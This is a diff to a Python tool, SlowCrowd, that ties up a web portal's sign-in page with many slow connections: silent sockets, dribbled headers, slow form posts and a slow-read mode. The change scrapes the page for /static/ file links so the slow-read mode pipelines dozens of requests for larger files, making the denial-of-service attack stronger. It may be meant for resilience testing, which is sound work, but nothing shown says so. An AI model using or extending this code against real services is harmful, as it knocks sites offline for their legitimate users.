@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 import selectors
 import socket
 import threading
@@ -21,6 +22,7 @@ LARGE_BYTES, BODY_BYTES = 50_000_000, 200_000
 # As little as the system allows to be on its way to a reader.
 SMALLEST_BUFFER = 2048
 ANSWERS_ASKED = 40
+STATIC = re.compile(r'src="(/static/[^"]+)"')
 
 
 @dataclass(kw_only=True)
@@ -47,6 +49,8 @@ class SlowCrowd:
         # With it the portal reads what is posted before it declines it.
         page = session.get(f"{address.rstrip('/')}{SIGN_IN}", timeout=30)
         self._cookie = f"csrftoken={page.cookies['csrftoken']}"
+        # Everybody may have them, and they are larger than pages.
+        self._files = STATIC.findall(page.text)
 
     def __enter__(self) -> Self:
         self._selector = selectors.DefaultSelector()
@@ -82,11 +86,12 @@ class SlowCrowd:
         self._selector.register(sock, selectors.EVENT_READ, _Slow(kind=kind, sock=sock))
 
     def _beginning(self, kind: str) -> bytes:
-        head = f"{SIGN_IN} HTTP/1.1\r\nHost: {self._at[0]}:{self._at[1]}\r\nCookie: {self._cookie}\r\n"
+        rest = f" HTTP/1.1\r\nHost: {self._at[0]}:{self._at[1]}\r\nCookie: {self._cookie}\r\n"
+        head = f"{SIGN_IN}{rest}"
         if kind == "silent":
             return b""
         if kind == "reader":
-            return f"GET {head}\r\n".encode() * ANSWERS_ASKED
+            return "".join(f"GET {each}{rest}\r\n" for each in self._files).encode() * ANSWERS_ASKED
         if kind == "head":
             return f"GET {head}X-Slow: ".encode()
         form = "Content-Type: application/x-www-form-urlencoded\r\n"
